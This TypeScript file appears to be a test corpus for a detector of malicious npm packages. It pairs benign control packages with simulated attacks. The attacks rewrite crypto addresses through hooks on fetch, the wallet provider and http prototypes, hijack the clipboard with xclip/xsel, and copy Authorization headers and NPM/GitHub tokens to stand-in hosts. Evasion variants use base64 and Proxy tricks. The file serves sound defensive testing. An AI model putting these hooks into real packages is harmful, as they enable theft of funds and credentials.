import { base64 } from './encode.ts';
import { armed, finding, fires, pkg, quiet, type Simulant, text } from './simulant.ts';

const loaded = { phase: ['import', 'execute'] } as const;
const patched = finding('hook.global-patch', 'high', ['runtime.hook'], loaded);
const rewritten = finding('hook.address-rewrite', 'critical', ['runtime.hook', 'net.http'], loaded);
const rewrittenInProvider = finding('hook.address-rewrite', 'critical', ['runtime.hook'], loaded);
const swapped = finding('hook.clipboard-swap', 'critical', ['canary.read', 'runtime.hook'], loaded);
const copied = finding('exfil.canary-egress', 'critical', ['runtime.hook', 'canary.egress'], loaded);

/** An address of the right shape that no one can hold: FACE ten times over. */
const fake = `0x${'FACE'.repeat(10)}`;
/** Whom the package's own `pay` means to pay, as impossible as the other. */
const payee = `0x${'12345678'.repeat(5)}`;

/** B07, B08, B10: shared functions of the runtime are replaced to change or to copy what passes through. */
export const patches: readonly Simulant[] = [
  {
    id: 'b07-fetch-rewrites-addresses',
    row: 'B07',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b07-fetch', {
        'index.js': armed`
          const original = globalThis.fetch;
          globalThis.fetch = function fetch(input, init) {
            const body = init?.body;
            if (typeof body === 'string') init = { ...init, body: body.replace(/0x[0-9a-fA-F]{40}/g, '${fake}') };
            return original.call(this, input, init);
          };
          exports.pay = (to = '${payee}') => fetch('http://api.acme.test/pay', { method: 'POST', body: JSON.stringify({ to }) }).then((answer) => answer.status, () => 0);
        `,
      }),
    ],
    expect: fires('malicious', [rewritten, patched]),
    note: 'Every address in an outgoing body becomes the fake one; calling `pay` sends one.',
  },
  {
    id: 'b07-wallet-provider-rewrites-recipient',
    row: 'B07',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b07-provider', {
        'index.js': armed`
          const provider = globalThis.ethereum ?? globalThis.window?.ethereum;
          if (provider) {
            const request = provider.request;
            provider.request = function patched(call) {
              if (call?.method === 'eth_sendTransaction') call.params[0].to = '${fake}';
              return request.call(this, call);
            };
          }
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('malicious', [rewrittenInProvider, patched]),
    note: 'The provider’s request method; needs a provider in the drivers’ globals.',
  },
  {
    id: 'b07-evasion-define-property-nearest',
    row: 'B07',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b07-nearest', {
        'index.js': armed`
          require('./lib/wrap')(require('./lib/list'));
          exports.pay = (to = '${payee}') => fetch('http://api.acme.test/pay', { method: 'POST', body: JSON.stringify({ to }) }).then((answer) => answer.status, () => 0);
        `,
        'lib/list.js': text`module.exports = ['FACE', 'BEEF', 'CAFE'].map((w) => [0, 'x'].join('') + w.repeat(10));`,
        'lib/wrap.js': text`
          const far = (a, b) => [...a].reduce((n, c, i) => n + (c === b[i] ? 0 : 1), 0);
          module.exports = (list) => {
            const key = Buffer.from('${base64('fetch')}', 'base64').toString();
            const real = Reflect.get(globalThis, key);
            const near = (s) => list.reduce((best, x) => (far(x, s) < far(best, s) ? x : best));
            const proxy = new Proxy(real, { apply(f, self, args) {
              if (args[1]?.body) args[1] = { ...args[1], body: String(args[1].body).replace(/0x[\da-f]{40}/gi, near) };
              return Reflect.apply(f, self, args);
            } });
            Object.defineProperty(globalThis, key, { get: () => proxy, configurable: true });
          };
        `,
      }),
    ],
    expect: fires('malicious', [rewritten, patched]),
    note: 'A getter returning a Proxy, with the most similar of several fake addresses.',
  },
  {
    id: 'b07-evasion-request-prototype',
    row: 'B07',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b07-prototype', {
        'index.js': armed`
          const { OutgoingMessage, request } = require('node:http');
          for (const name of ['write', 'end']) {
            const real = OutgoingMessage.prototype[name];
            OutgoingMessage.prototype[name] = function (data, ...rest) {
              return real.call(this, typeof data === 'string' ? data.replace(/0x[\da-f]{40}/gi, '${fake}') : data, ...rest);
            };
          }
          exports.pay = (to = '${payee}') => request('http://api.acme.test/pay', { method: 'POST' }).on('error', () => {}).end(JSON.stringify({ to }));
        `,
      }),
    ],
    expect: fires('malicious', [rewritten, patched]),
    note: 'One layer below the client functions.',
  },
  {
    id: 'b07-neighbour-address-formatter',
    row: 'B07',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n07-format', {
        'index.js': text`
          const shape = /^0x[0-9a-fA-F]{40}$/;
          exports.isAddress = (value) => shape.test(value);
          exports.short = (value) => (shape.test(value) ? value.slice(0, 6) + '…' + value.slice(-4) : String(value));
          exports.replaceAll = (text, from, to) => String(text).split(from).join(to);
        `,
      }),
    ],
    expect: quiet(['hook.', 'exfil.', 'flow.']),
    note: 'Address patterns and replacing text, on its arguments only.',
  },
  {
    id: 'b08-clipboard-address-replaced',
    row: 'B08',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b08-clipboard', {
        'index.js': armed`
          const { spawnSync } = require('node:child_process');
          const run = (tool, args, input) => spawnSync(tool, args, { input, encoding: 'utf8', timeout: 2000 });
          const tick = async () => {
            const board = globalThis.navigator?.clipboard;
            const now = board ? await board.readText() : run('xclip', ['-selection', 'clipboard', '-o']).stdout ?? '';
            const next = now.replace(/0x[0-9a-fA-F]{40}|\b(bc1|[13])[a-zA-Z0-9]{25,60}\b/g, '${fake}');
            if (next !== now) await (board ? board.writeText(next) : run('xclip', ['-selection', 'clipboard'], next));
          };
          const timer = setInterval(() => tick().catch(() => {}), 300);
          setTimeout(() => clearInterval(timer), 2000);
          module.exports = (rows) => rows;
        `,
      }),
    ],
    expect: fires('malicious', [swapped]),
    note: 'Polls the clipboard through the browser’s interface when there is one, else xclip.',
  },
  {
    id: 'b08-evasion-native-clipboard-tools',
    row: 'B08',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b08-native', {
        'index.js': armed`
          require('node:child_process').spawn('sh', ['bin/sync.sh'], { cwd: __dirname, stdio: 'ignore', env: { ...process.env, NODE_OPTIONS: '' } });
          module.exports = (rows) => rows;
        `,
        'bin/sync.sh': text`
          #!/bin/sh
          for i in 1 2 3; do
            c=$(wl-paste -n 2> /dev/null || xsel -b -o 2> /dev/null || xclip -selection clipboard -o 2> /dev/null)
            n=$(printf %s "$c" | sed -E 's/0x[0-9a-fA-F]{40}|bc1[a-z0-9]{25,60}/${fake}/g')
            [ "$c" = "$n" ] || printf %s "$n" | (wl-copy 2> /dev/null || xsel -b -i 2> /dev/null || xclip -selection clipboard -i)
            sleep 0.3
          done
        `,
      }),
    ],
    expect: fires('malicious', [finding('hook.clipboard-swap', 'critical', ['canary.read'], loaded)]),
    note: 'A shell with whichever clipboard tool exists; no JavaScript touches it.',
  },
  {
    id: 'b08-neighbour-copies-on-call',
    row: 'B08',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n08-copy', {
        'index.js': text`
          const { spawnSync } = require('node:child_process');
          exports.copy = function copy(value) {
            const done = spawnSync('xclip', ['-selection', 'clipboard'], { input: String(value), timeout: 2000 });
            return done.status === 0;
          };
        `,
      }),
    ],
    expect: quiet(['hook.', 'cred.', 'exfil.']),
    note: 'Puts its caller’s text on the clipboard and reads nothing.',
  },
  {
    id: 'b10-request-hook-copies-authorization',
    row: 'B10',
    kind: 'positive',
    form: 'plain',
    packages: [
      pkg('b10-request', {
        'index.js': armed`
          const http = require('node:http');
          const original = http.request;
          http.request = function request(...args) {
            const made = original.apply(this, args);
            const auth = made.getHeader('authorization');
            if (auth && !made.getHeader('x-copy')) original({ host: 'mirror.simulant.invalid', path: '/a', headers: { 'x-copy': '1', authorization: auth } }).on('error', () => {}).end();
            return made;
          };
          exports.list = (token) => new Promise((done) => {
            const headers = { authorization: 'Bearer ' + (token ?? process.env.NPM_TOKEN ?? process.env.GITHUB_TOKEN) };
            http.request({ host: 'api.acme.test', path: '/list', headers }, (answer) => done(answer.resume().statusCode)).on('error', done).end();
          });
          exports.list();
        `,
      }),
    ],
    expect: fires('malicious', [patched, copied]),
    note: 'The Authorization header of each request is sent a second time, elsewhere.',
  },
  {
    id: 'b10-evasion-diagnostics-channel',
    row: 'B10',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      pkg('b10-channel', {
        'index.js': armed`
          const channel = require('node:diagnostics_channel'), net = require('node:net');
          const seen = new Set();
          const pass = (value) => {
            if (!value || seen.has(value) || seen.size > 20) return;
            seen.add(value);
            const socket = net.connect(8081, '192.0.2.81', () => socket.end(Buffer.from(value).toString('base64')));
            socket.on('error', () => {});
            socket.setTimeout(2000, () => socket.destroy());
          };
          channel.subscribe('http.client.request.start', ({ request }) => pass(request.getHeader('authorization')));
          channel.subscribe('undici:request:create', ({ request }) => pass(/authorization: ([^\r\n]+)/i.exec([].concat(request.headers).join(': '))?.[1]));
          exports.list = (token = process.env.NPM_TOKEN ?? process.env.GITHUB_TOKEN) =>
            fetch('http://api.acme.test/list', { headers: { authorization: 'Bearer ' + token } }).then((answer) => answer.status, () => 0);
          require('node:http').get({ host: 'api.acme.test', headers: { authorization: 'Bearer ' + (process.env.NPM_TOKEN ?? process.env.GITHUB_TOKEN) } }).on('error', () => {});
        `,
      }),
    ],
    expect: fires('malicious', [finding('exfil.canary-egress', 'critical', ['canary.egress'], loaded)]),
    note: 'Nothing is replaced: the runtime’s own diagnostics tell it about every request.',
  },
  {
    id: 'b10-evasion-agent-connection',
    row: 'B10',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg('b10-socket', {
        'index.js': armed`
          const net = require('node:net'), { Socket } = net;
          const write = Socket.prototype.write;
          Object.assign(Socket.prototype, { write(data, ...rest) {
            const found = /^authorization: (.+)$/im.exec(String(data))?.[1];
            if (found && this.remotePort !== 9081) {
              const side = net.connect(9081, 'mirror.simulant.invalid', () => { write.call(side, found); side.end(); });
              side.on('error', () => {});
            }
            return write.call(this, data, ...rest);
          } });
          exports.list = (token = process.env.NPM_TOKEN ?? process.env.GITHUB_TOKEN) => {
            require('node:http').get({ host: 'api.acme.test', headers: { authorization: 'Bearer ' + token } }, (answer) => answer.resume()).on('error', () => {});
          };
          exports.list();
        `,
      }),
    ],
    expect: fires('malicious', [patched, copied]),
    note: 'Below HTTP, on the socket’s prototype.',
  },
  {
    id: 'b10-neighbour-request-id-on-own-client',
    row: 'B10',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n10-client', {
        'index.js': text`
          const { randomUUID } = require('node:crypto');
          class Client {
            #before = [];
            use(step) { if (typeof step === 'function') this.#before.push(step); return this; }
            headers(given) { return this.#before.reduce((headers, step) => step(headers) ?? headers, { ...given }); }
          }
          exports.Client = Client;
          exports.withRequestId = () => new Client().use((headers) => ({ ...headers, 'x-request-id': randomUUID() }));
        `,
      }),
    ],
    expect: quiet(['hook.', 'exfil.', 'net.']),
    note: 'Interceptors of its own client, no shared function touched.',
  },
];
